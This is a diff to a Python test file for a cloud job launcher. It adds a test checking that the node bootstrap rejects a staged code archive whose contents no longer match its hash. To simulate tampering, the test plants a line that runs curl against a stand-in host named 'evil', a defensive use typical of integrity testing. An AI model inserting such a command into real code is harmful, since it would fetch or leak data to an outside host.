@@ -954,3 +954,30 @@ def test_an_unrecorded_attempt_is_adopted_by_its_labels(fake, storage_emulator, 
     assert provider.adopt(RUN_ID, 1, job.attempt_dir) == job_id
     assert provider.adopt(RUN_ID, 2, job.attempt_dir) is None
     assert len(fake.jobs) == 1
+
+
+def test_the_bootstrap_refuses_an_archive_changed_in_the_bucket(tmp_path, monkeypatch):
+    """Jobs can write to the staging bucket; each node checks an archive against the hash in its
+    name before extracting it (the bootstrap's own unpack, fed the bytes write_archive makes)."""
+    import io
+
+    from launcher.providers import _gcp
+    from launcher.providers import vertex as vertex_module
+
+    request = VertexProvider(project="p", region="us-central1", bucket="b").dryrun(
+        make_job(tmp_path))
+    archive = request.staging[0]
+    data = io.BytesIO()
+    _gcp.write_archive(archive, data)
+    namespace: dict[str, Any] = {}
+    exec(compile(vertex_module.BOOTSTRAP.split("# -- run --")[0], "bootstrap", "exec"), namespace)
+    monkeypatch.chdir(tmp_path)
+    namespace["unpack"](archive.uri, data.getvalue())
+    assert (tmp_path / "code" / "train.py").is_file()
+
+    other = _gcp.StagedArchive(uri=archive.uri, sha256=archive.sha256, members=tuple(
+        _gcp.text_members({"code/train.py": "import os; os.system('curl evil')"})))
+    planted = io.BytesIO()
+    _gcp.write_archive(other, planted)
+    with pytest.raises(SystemExit, match="not the archive this job was created with"):
+        namespace["unpack"](archive.uri, planted.getvalue())
